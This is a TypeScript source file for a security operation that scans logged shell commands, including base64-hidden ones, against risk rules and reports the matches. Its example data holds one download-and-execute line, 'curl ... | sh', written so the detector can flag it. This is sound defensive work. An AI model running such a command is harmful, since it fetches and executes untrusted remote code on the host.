import { z } from 'zod';
import { decodedRuns } from '../../shared/commands/hidden.ts';
import { riskyJudge } from '../../shared/commands/risky.ts';
import { decodeCommandLine } from '../../shared/decode/command-line.ts';
import { wrongField } from '../../shared/kit/fault.ts';
import { operation } from '../../shared/kit/operation.ts';
import { batches, tableInput } from '../../shared/tables/source.ts';
import { isoOf, timeOf } from '../../shared/tables/time.ts';

const decoders = {
  none: () => [],
  base64: decodedRuns,
  all: (command: string) => [...decodedRuns(command), ...decodeCommandLine(command).map(({ text }) => text)],
};

export default operation({
  name: 'detect-risky-commands',
  summary: 'Find shell commands that a rule calls risky, and say which rule and why.',
  entities: ['process', 'host', 'account'],
  input: z.strictObject({
    ...tableInput('table of commands'),
    commandColumn: z.string().min(1).default('Command').describe('Column with the command.'),
    timeColumn: z.string().min(1).default('TimeGenerated').describe('Column with its time.'),
    logType: z.string().min(1).max(100).default('Syslog').describe('Which list of rules to use.'),
    rules: z.record(z.string(), z.array(z.string().min(1).max(2000)).max(200)).optional()
      .describe('Own rules: log type to RE2 patterns, matched from the start of the command; a dot also takes line ends. They replace the built-in ones.'),
    decode: z.enum(['none', 'base64', 'all']).default('base64').describe('Also match what base64 in the command says, or everything that it hides.'),
    certainOnly: z.boolean().default(false).describe('Only where the words stand alone: "sh", not "pushover".'),
  }),
  row: z.object({
    row: z.int().describe('Place in the table, from 0.'),
    time: z.string().nullable(),
    command: z.string(),
    rules: z.array(z.string()).describe('Rules that matched; a pattern is its own name.'),
    why: z.array(z.string()).describe('What each of them means.'),
    certain: z.boolean().describe('The words that a built-in rule looks for stand alone.'),
    decoded: z.string().nullable().describe('The decoded text that matched, when the command as written does not.'),
  }),
  limits: { rows: 100_000, seconds: 60, bytes: 64_000_000 },
  uses: ['blobs'],
  examples: [
    {
      given: { rows: [{ TimeGenerated: '2024-03-04T10:00:00Z', Command: 'curl -s http://198.51.100.7/x | sh' }, { TimeGenerated: '2024-03-04T10:00:01Z', Command: 'ls /bin' }] },
      rows: [{ row: 0, rules: ['download_shell'], why: ['downloads something and then names a shell or a shell script'], certain: true, decoded: null }],
    },
  ],
  async *run(input, ports, call) {
    const { commandColumn, timeColumn, certainOnly } = input;
    const judge = riskyJudge({ logType: input.logType, rules: input.rules, hidden: decoders[input.decode] });
    const absent = new Set([commandColumn, timeColumn]);
    let rows = 0;
    let timeless = 0;
    for await (const batch of batches(input, ports, call))
      for (const line of batch) {
        const row = rows++;
        for (const column of absent) if (Object.hasOwn(line, column)) absent.delete(column);
        const command = line[commandColumn];
        const found = typeof command === 'string' && command !== '' ? judge(command) : undefined;
        if (!found || (certainOnly && !found.certain)) continue;
        const time = timeOf(line[timeColumn]);
        if (Number.isNaN(time)) timeless += 1;
        yield { row, time: Number.isNaN(time) ? null : isoOf(time), command: command as string, ...found };
      }
    if (rows > 0 && absent.has(commandColumn)) throw wrongField('commandColumn', `No row has a column "${commandColumn}".`);
    if (rows > 0 && absent.has(timeColumn)) throw wrongField('timeColumn', `No row has a column "${timeColumn}".`);
    if (timeless > 0) call.problem({ code: 'bad-time', about: timeColumn, detail: `${timeless} of the commands found have no time that can be read.` });
  },
});
